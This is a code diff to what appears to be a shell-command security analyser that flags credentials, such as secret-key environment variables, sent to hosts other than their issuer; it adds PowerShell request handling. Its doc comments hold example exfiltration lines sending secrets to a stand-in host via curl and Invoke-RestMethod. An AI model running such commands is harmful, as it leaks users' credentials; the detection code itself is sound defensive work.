@@ -4,8 +4,7 @@ import { textOf } from '../../shell/command.js';
 import { emitResource } from '../command/emit.js';
 import { readArguments } from '../command/arguments.js';
 import { rowFor } from '../programs/lookup/row-for.js';
-import { hostsOf, isOf, poses } from './issuer-hosts.js';
-import { ISSUERS } from './issuers.js';
+import { hostsOf, isOf, issuerOfVariable, poses } from './issuer-hosts.js';
 import { shownHeaders } from './shown-headers.js';
 
 const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;
@@ -16,18 +15,38 @@ const HEADER_ITEM = /^["']?[\w-]+:(?![=/])/;
 /** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
 export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
   if (program === 'curl') shownHeaders(args, running);
-  const addresses = addressesOf(program, args);
+  const isHeader = (word: Word, before: string): boolean => /^(?:-H|--header|-u|--user)$/.test(before) || /^(?:-H.|--header=|-u.|--user=)/.test(word.written) || (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
+  tellForeign(args, { addresses: addressesOf(program, args), isHeader }, running);
+}
+
+/** `Invoke-RestMethod -Uri https://x.test -Body $env:TOKEN`: the same of PowerShell, whose headers stand behind a parameter. */
+export function requestedTokens(args: readonly Word[], running: Running): void {
+  let parameter = '';
+  const headers = new Set<Word>();
+  for (const word of args) {
+    if (/^-[A-Za-z]+$/.test(word.written)) parameter = word.written.toLowerCase();
+    else if (/^-(?:headers|token|credential)$/.test(parameter)) headers.add(word);
+  }
+  tellForeign(args, { addresses: args.filter(({ written }) => written.includes('://')), isHeader: (word) => headers.has(word) }, running);
+}
+
+interface Requested {
+  readonly addresses: readonly Word[];
+  /** Whether a word, behind another, proves to the host who asks. */
+  readonly isHeader: (word: Word, before: string) => boolean;
+}
+
+function tellForeign(args: readonly Word[], { addresses, isHeader }: Requested, running: Running): void {
   const all = addresses.flatMap(hostsOf);
   if (all.length === 0) return;
   args.forEach((word, index) => {
     if (word.values[0].certainty === 'certain' || !word.written.includes('$')) return;
-    const proves = /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1])) || /^(?:-H.|--header=|-u.|--user=)/.test(word.written) || (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
     // What is no address goes to all of them.
     const own = addresses.includes(word) ? hostsOf(word) : [];
     const hosts = own.length > 0 ? own : all;
     for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
-      const issuer = ISSUERS.find(({ variable }) => variable.test(name));
-      if (issuer !== undefined && hosts.some((host) => (proves ? poses(issuer.domains, host) : !isOf(issuer, host, running)))) emitResource('send', 'credential', name, running);
+      const issuer = issuerOfVariable(name);
+      if (issuer !== undefined && hosts.some((host) => (isHeader(word, textOf(args[index - 1])) ? poses(issuer.domains, host) : !isOf(issuer, host, running)))) emitResource('send', 'credential', name, running);
     }
   });
 }
